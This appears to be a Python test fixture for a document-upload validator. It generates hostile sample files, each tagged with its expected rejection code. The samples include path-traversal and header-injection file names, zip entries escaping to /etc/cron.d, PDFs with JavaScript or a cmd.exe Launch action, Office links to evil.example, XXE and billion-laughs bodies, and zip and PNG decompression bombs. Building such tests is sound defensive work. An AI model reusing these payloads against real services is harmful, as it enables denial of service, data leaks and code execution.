"""More than 150 files that nobody should send, made here: small, in memory, each with the refusal.

``EVIDENCE`` is what is handed in as a paper, ``WORKBOOKS`` what is imported. A row is a name, the
bytes, and the code of the refusal. ``bin/prove files`` sends every one through the pages.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import partial
from typing import NamedTuple

from PIL import Image

from tests import acting
from tests.spellings import LAUGHS, XXE, other_spellings, relations

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ENCRYPTED = OLE + "EncryptedPackage".encode("utf-16-le")
BIG = 20_000_001
# what packs badly: without it the ratio of a small file alone would refuse it
NOISE = {"noise.bin": random.Random(7).randbytes(60_000)}


class Bad(NamedTuple):
    name: str
    make: Callable[[], bytes]
    code: str


# --- sound ones, to be spoiled ------------------------------------------------------------------
def pdf(catalog: str = "", page: str = "", trailer: str = "", tail: bytes = b"") -> bytes:
    """A page without a word on it; pieces are put into its catalogue, page and trailer."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n"
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    end = f"trailer << /Size 4 /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n"
    return out + end.encode() + tail


def packed_pdf(opens: str) -> bytes:
    """As PDF 1.5 saves it: what the catalogue opens with lies in a compressed object stream."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        5: _stream("/Type /ObjStm /N 1 /First 4", b"4 0 " + opens.encode()),
    }
    out, rows = b"%PDF-1.5\n", {0: (0, 0), 4: (2, 5)}
    for number, body in objects.items():
        rows[number] = (1, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows[6] = (1, len(out))
    table = b"".join(struct.pack(">BIH", *rows[number], 0) for number in range(7))
    cross = _stream("/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", table)
    return out + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (cross, len(out))


def _stream(words: str, data: bytes) -> bytes:
    packed = zlib.compress(data)
    head = f"<< {words} /Filter /FlateDecode /Length {len(packed)} >> stream\n"
    return head.encode() + packed + b"\nendstream"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#c33").save(out, kind, **more)
    return out.getvalue()


def package(
    main: str = "word/document.xml",
    parts: dict[str, bytes] | None = None,
    types: bytes = b"<Types/>",
    body: bytes = b"<w/>",
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", types)
        made.writestr(main, body)
        for name, content in (parts or {}).items():
            made.writestr(name, content)
    return out.getvalue()


def xlsx(parts: dict[str, bytes] | None = None, **more: bytes) -> bytes:
    return package("xl/workbook.xml", parts, **more)


# --- pieces that hurt ---------------------------------------------------------------------------
def bomb() -> bytes:
    return xlsx({"xl/sheet1.xml": b"0" * 60_000_000})


def many_small_bombs() -> bytes:
    return xlsx({f"xl/s{n}.xml": b"0" * 1_000_000 for n in range(110)})


def overlapping() -> bytes:
    """A second entry in the directory that points into the first: the better bomb."""
    data = bytearray(xlsx({"a.xml": b"1" * 500, "b.xml": b"2" * 500}))
    first, second = (data.find(b"PK\x01\x02", data.find(name) + 20) for name in (b"a.xml",) * 2)
    directory = [place for place in range(len(data)) if data[place : place + 4] == b"PK\x01\x02"]
    first, second = directory[2], directory[3]
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def lying() -> bytes:
    """An entry that says it unpacks to ten bytes."""
    data, size = xlsx({"xl/sheet1.xml": b"0" * 50_000}), struct.pack("<I", 50_000)
    return data.replace(size, struct.pack("<I", 10))


def locked_zip(main: str = "xl/workbook.xml") -> bytes:
    data = bytearray(package(main))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def unknown_method() -> bytes:
    """Packed in a way that nobody has heard of."""
    data = bytearray(package())
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        place = data.find(mark)
        while place >= 0:
            data[place + at : place + at + 2] = b"\x63\x00"
            place = data.find(mark, place + 4)
    return bytes(data)


def wrong_checksum() -> bytes:
    data = bytearray(package(body=b"<w>abcdefgh</w>"))
    place = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    data[place + 16] ^= 0xFF
    return bytes(data)


def doubled() -> bytes:
    """Two entries of one name: which of them is opened is up to the reader."""
    data = package(parts={"word/document.xm_": b"<other/>"})
    return data.replace(b"word/document.xm_", b"word/document.xml")


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *chunks: bytes, colours: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, colours, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(chunks) + chunk(b"IEND", b"")


def png_bomb() -> bytes:
    """Few bytes that are a picture of 12,000 × 12,000 points."""
    row = b"\0" * (12_000 * 3 + 1)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _n in range(400)) + packer.flush()
    return png(12_000, 12_000, chunk(b"IDAT", body))


def text_bomb() -> bytes:
    """A comment of a picture that unpacks to 80 MB."""
    return png(10, 10, chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"0" * 80_000_000, 9)))


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose head promises so many points."""
    data = bytearray(picture())
    place = data.find(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def no_pages() -> bytes:
    return pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0")


def outside(kind: str, target: str) -> Callable[[], bytes]:
    return lambda: package(parts={"word/_rels/document.xml.rels": relations(kind, target)})


def is_(data: bytes) -> Callable[[], bytes]:
    return lambda: data


# --- handed in as evidence ----------------------------------------------------------------------
def _names() -> Iterable[Bad]:
    """The content is sound; the name is none that a person gave."""
    bad = (
        "../../etc/passwd.pdf", "..\\..\\boot.pdf", "/etc/x.pdf", "C:\\x.pdf", "a/b.pdf",
        "名册\x00.pdf", "名册.pdf\x00.exe", "名册\u202efdp.exe", "名册\u202e.pdf", "\u2066名册.pdf",
        "名册\u200b.pdf", "\ufeff名册.pdf", "名册\n.pdf", "名册\r\nX-Evil: 1.pdf", "名册\t.pdf",
        "名册\x1b[31m.pdf", "名册\x7f.pdf", "名册\u2028.pdf", "名册\ue000.pdf", "名册\ud800.pdf",
        "", "..", ".", "   ", "...", "./x.pdf",
    )  # fmt: skip
    return (Bad(name, pdf, "upload_name") for name in bad)


def _kinds() -> Iterable[Bad]:
    """Kinds that are not taken, whatever is inside."""
    yield Bad("页面.html", is_(b"<script>alert(1)</script>"), "upload_kind")
    yield Bad("页面.htm", is_(b"<script>alert(1)</script>"), "upload_kind")
    yield Bad("页面.xhtml", is_(b"<html xmlns='http://www.w3.org/1999/xhtml'/>"), "upload_kind")
    yield Bad("页面.mht", is_(b"MIME-Version: 1.0"), "upload_kind")
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"
    yield Bad("图.svg", is_(svg), "upload_kind")
    yield Bad("图.svgz", is_(zlib.compress(svg)), "upload_kind")
    yield Bad("数据.xml", is_(XXE), "upload_kind")
    yield Bad("样式.xsl", is_(XXE), "upload_kind")
    programs = (
        "exe", "com", "dll", "bat", "cmd", "ps1", "sh", "js", "vbs", "jar", "apk", "scr", "lnk",
        "php", "jsp", "aspx", "py", "hta", "msi", "iso",
    )  # fmt: skip
    for end in programs:
        yield Bad(f"程序.{end}", is_(b"MZ" + b"\0" * 100), "upload_kind")
    for end in ("doc", "xls", "ppt", "wps", "et"):
        yield Bad(f"旧文.{end}", is_(OLE), "upload_kind")
    for end in ("xlsm", "docm", "xlsb", "xltm", "dotm", "pptx"):
        yield Bad(f"台账.{end}", xlsx, "upload_kind")
    for end in ("zip", "rar", "7z", "tar.gz"):
        yield Bad(f"包.{end}", package, "upload_kind")
    for end in ("gif", "bmp", "tiff", "webp", "heic"):
        yield Bad(f"图.{end}", lambda: picture("GIF"), "upload_kind")
    for end in ("mp4", "mp3", "swf", "eml", "txt", "rtf"):
        yield Bad(f"其他.{end}", is_(b"\0\0\0\x18ftypmp42"), "upload_kind")
    yield Bad(
        "表.csv", is_("企业名称,统一社会信用代码\n洛阳,4.1E+17\n".encode("gbk")), "upload_kind"
    )
    yield Bad("名册.pdf.exe", pdf, "upload_kind")
    yield Bad("名册.pdf::$DATA", pdf, "upload_kind")
    yield Bad("名册.pdf.", pdf, "upload_kind")
    yield Bad("无后缀", pdf, "upload_kind")
    yield Bad(".pdf", pdf, "upload_kind")
    yield Bad("全角．ｐｄｆ", pdf, "upload_kind")


def _sizes() -> Iterable[Bad]:
    for end in ("pdf", "jpg", "png", "docx", "xlsx", "ofd"):
        yield Bad(f"空.{end}", is_(b""), "upload_empty")
    yield Bad("大.pdf", lambda: pdf(tail=b"0" * BIG), "upload_large")
    yield Bad("大.jpg", lambda: picture() + b"0" * BIG, "upload_large")
    yield Bad("大.xlsx", lambda: b"PK\x03\x04" + b"0" * BIG, "upload_large")


def _other_content() -> Iterable[Bad]:
    """What the name says, the content is not; or it is two things at once."""
    html = b"<html><script>x</script>"
    for end in ("pdf", "jpg", "png", "docx", "xlsx", "ofd"):
        yield Bad(f"网页.{end}", is_(html), "upload_differs")
        yield Bad(f"程序.{end}", is_(b"MZ\x90\0" + b"\0" * 200), "upload_differs")
    yield Bad("名册.pdf", picture, "upload_differs")
    yield Bad("前面.pdf", lambda: b"\n" + pdf(), "upload_differs")
    yield Bad("脚本.pdf", lambda: b"<script>x</script>" + pdf(), "upload_differs")
    yield Bad("名册.jpg", pdf, "upload_differs")
    yield Bad("名册.png", picture, "upload_differs")
    yield Bad("动图.jpg", lambda: picture("GIF"), "upload_differs")
    yield Bad("动图.png", lambda: picture("GIF"), "upload_differs")
    yield Bad("位图.jpg", lambda: picture("BMP"), "upload_differs")
    yield Bad("图片.jpg", lambda: picture("WEBP"), "upload_differs")
    yield Bad("压缩包.docx", lambda: package("x.txt"), "upload_differs")
    yield Bad("文档.xlsx", package, "upload_differs")
    yield Bad("表格.docx", xlsx, "upload_differs")
    yield Bad("文档.ofd", package, "upload_differs")
    yield Bad("文本.xlsx", is_(b"a,b,c\n"), "upload_differs")
    yield Bad("国标.xlsx", is_("企业,代码\n".encode("gbk")), "upload_differs")
    yield Bad("网表.xlsx", is_(b"<table><tr><td>1</td></tr></table>"), "upload_differs")
    yield Bad("双面.pdf", lambda: pdf(tail=package()), "upload_differs")
    yield Bad("双面.docx", lambda: b"MZ" + package(), "upload_differs")
    yield Bad("双面.xlsx", lambda: pdf() + xlsx(), "upload_differs")
    yield Bad("尾巴.docx", lambda: package() + b"<script>x</script>", "upload_differs")
    yield Bad("尾巴.xlsx", lambda: xlsx() + b"\0" * 30, "upload_differs")
    for way in ("../../evil.sh", "/etc/cron.d/x", "..\\..\\evil.dll_", "\\\\host\\x", "C:/x.xml"):
        made = package(parts={way.replace("\\", "|"): b"rm"}).replace(
            way.replace("\\", "|").encode(), way.encode()
        )
        yield Bad("爬出.docx", is_(made), "upload_differs")
    yield Bad("重名.docx", doubled, "upload_differs")


def _broken() -> Iterable[Bad]:
    yield Bad("断.pdf", lambda: pdf()[:20], "upload_broken")
    yield Bad("断尾.pdf", lambda: pdf()[:-30], "upload_broken")
    yield Bad("只有头.pdf", is_(b"%PDF-1.7\n%%EOF"), "upload_broken")
    yield Bad("乱码.pdf", is_(b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF"), "upload_broken")
    yield Bad("无页.pdf", no_pages, "upload_broken")
    yield Bad("断.jpg", lambda: picture()[:200], "upload_broken")
    yield Bad("半.jpg", lambda: picture(size=(900, 700))[:4000], "upload_broken")
    yield Bad("头.jpg", is_(b"\xff\xd8\xff\xe0" + b"\0" * 50), "upload_broken")
    yield Bad("断.png", lambda: picture("PNG")[:60], "upload_broken")
    yield Bad("零.png", lambda: png(0, 0), "upload_broken")
    yield Bad("坏.png", lambda: png(9, 9, chunk(b"IDAT", b"not packed")), "upload_broken")
    yield Bad("文字炸弹.png", text_bomb, "upload_broken")
    yield Bad("断.docx", lambda: package()[:120], "upload_broken")
    yield Bad("断.xlsx", lambda: xlsx()[:-40], "upload_broken")
    yield Bad("只有头.ofd", is_(b"PK\x03\x04" + b"\0" * 60), "upload_broken")
    yield Bad("校验.docx", wrong_checksum, "upload_broken")
    yield Bad("谎报.xlsx", lying, "upload_broken")
    yield Bad("怪法.docx", unknown_method, "upload_broken")


def _active() -> Iterable[Bad]:
    js = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    yield Bad("脚本.pdf", lambda: pdf(js), "upload_active")
    yield Bad("隐名.pdf", lambda: pdf(js.replace("Java", "J#61va")), "upload_active")
    yield Bad("启动.pdf", lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "upload_active")
    packed = "<< /S /J#61vaScript /JS (app.alert(1)) >>"
    yield Bad("压缩脚本.pdf", lambda: packed_pdf(packed), "upload_active")
    yield Bad("压缩启动.pdf", lambda: packed_pdf("<< /S /Launch /F (cmd.exe) >>"), "upload_active")
    yield Bad("附件.pdf", lambda: pdf("/Names << /EmbeddedFiles 9 0 R >>"), "upload_active")
    yield Bad("表单.pdf", lambda: pdf("/AcroForm << /XFA [] >>"), "upload_active")
    yield Bad("动画.pdf", lambda: pdf(page="/Annots [<< /Subtype /RichMedia >>]"), "upload_active")
    yield Bad("导入.pdf", lambda: pdf("/AA << /WC << /S /ImportData >> >>"), "upload_active")
    yield Bad("宏.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"x"}), "upload_macros")
    named = b"<Types><Override ContentType='application/vnd.ms-word.macroEnabled.main'/></Types>"
    yield Bad("宏.docx", lambda: package(types=named), "upload_macros")
    yield Bad("老宏.xlsx", lambda: xlsx({"xl/macrosheets/s.xml": b"<x/>"}), "upload_macros")
    yield Bad("控件.docx", lambda: package(parts={"word/activeX/a.bin": b"x"}), "upload_macros")
    yield Bad("嵌入.docx", lambda: package(parts={"word/embeddings/a.bin": b"x"}), "upload_macros")
    yield Bad("对象.xlsx", lambda: xlsx({"xl/oleObject1.bin": b"x"}), "upload_macros")
    yield Bad("程序.ofd", lambda: package("OFD.xml", {"Doc/run.EXE": b"MZ"}), "upload_macros")
    yield Bad("脚本.ofd", lambda: package("OFD.xml", {"Doc/a.js": b"x()"}), "upload_macros")
    for kind, target in (
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("image", "https://evil.example/seen.png"),
        ("oleObject", "\\\\evil.example\\share\\x"),
        ("frame", "file://evil.example/x"),
    ):
        yield Bad("外链.docx", outside(kind, target), "upload_outside")
    yield Bad("实体.docx", lambda: package(body=XXE), "upload_outside")
    yield Bad("实体.xlsx", lambda: xlsx({"xl/s.xml": XXE}), "upload_outside")
    yield Bad("实体.ofd", lambda: package("OFD.xml", body=LAUGHS), "upload_outside")
    wide = XXE.decode().encode("utf-16")
    yield Bad("宽实体.docx", lambda: package(body=wide), "upload_outside")
    far = relations("attachedTemplate", "http://evil.example/t.dotm")
    near = relations("hyperlink", "https://example.gov.cn/")
    for told in other_spellings(far, near):
        for end in ("rels", "RELS"):
            made = package(parts={f"word/_rels/settings.xml.{end}": told})
            yield Bad("别样外链.docx", is_(made), "upload_outside")
    late = b'<?xml version="1.0"?><!--' + b"x" * 70_000 + b"-->" + XXE.partition(b"?>")[2]
    yield Bad("晚实体.docx", lambda: package(parts=NOISE, body=late), "upload_broken")
    endless = b"<Relationship " * 20_000
    yield Bad(
        "回溯.docx", lambda: package(parts={**NOISE, "_rels/.rels": endless}), "upload_broken"
    )
    long = {**NOISE, "_rels/.rels": b" " * 9_000_000}
    yield Bad("长关系.docx", lambda: package(parts=long), "upload_bomb")
    for name, parts, code in acting.parts():
        yield Bad(name, partial(xlsx if name.endswith("xlsx") else package, parts=parts), code)
    for name, told, code in acting.bodies():
        yield Bad(name, partial(package, parts=NOISE, body=told), code)
    macros = "<Types><Override ContentType='x.macroEnabled.y'/></Types>".encode("utf-16")
    yield Bad("宽宏.docx", lambda: package(types=macros), "upload_macros")


def _locked_and_bombs() -> Iterable[Bad]:
    for end in ("xlsx", "docx"):
        yield Bad(f"加密.{end}", is_(ENCRYPTED), "upload_locked")
        yield Bad(f"旧格式.{end}", is_(OLE), "upload_locked")
    yield Bad("加密条目.xlsx", locked_zip, "upload_locked")
    yield Bad("加密条目.docx", lambda: locked_zip("word/document.xml"), "upload_locked")
    crypt = "/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 "
    keys = f"/O <{'41' * 32}> /U <{'42' * 32}> >> /ID [<{'43' * 16}> <{'43' * 16}>]"
    yield Bad("加密.pdf", lambda: pdf(trailer=crypt + keys), "upload_locked")
    yield Bad("炸弹.xlsx", bomb, "upload_bomb")
    yield Bad("小炸弹.xlsx", many_small_bombs, "upload_bomb")
    yield Bad("碎片.xlsx", lambda: xlsx({f"x/{n}.xml": b"" for n in range(3100)}), "upload_bomb")
    yield Bad("叠.xlsx", overlapping, "upload_bomb")
    yield Bad("大图.png", lambda: png(60_000, 60_000), "upload_pixels")
    yield Bad("实图.png", png_bomb, "upload_pixels")
    yield Bad("长图.png", lambda: png(2_000_000, 100), "upload_pixels")
    many = {f"x/{n}.xml": b"<x/>" for n in range(3_100)}
    yield Bad("目录.docx", lambda: package(parts=many), "upload_bomb")
    yield Bad("代码.pdf", lambda: pdf(tail=b"%" + b"#41" * 400_000 + b"\n%%EOF"), "upload_bomb")
    yield Bad("大图.jpg", lambda: jpeg_of(60_000, 60_000), "upload_pixels")


EVIDENCE: tuple[Bad, ...] = (
    *_names(), *_kinds(), *_sizes(), *_other_content(), *_broken(), *_active(),
    *_locked_and_bombs(),
)  # fmt: skip
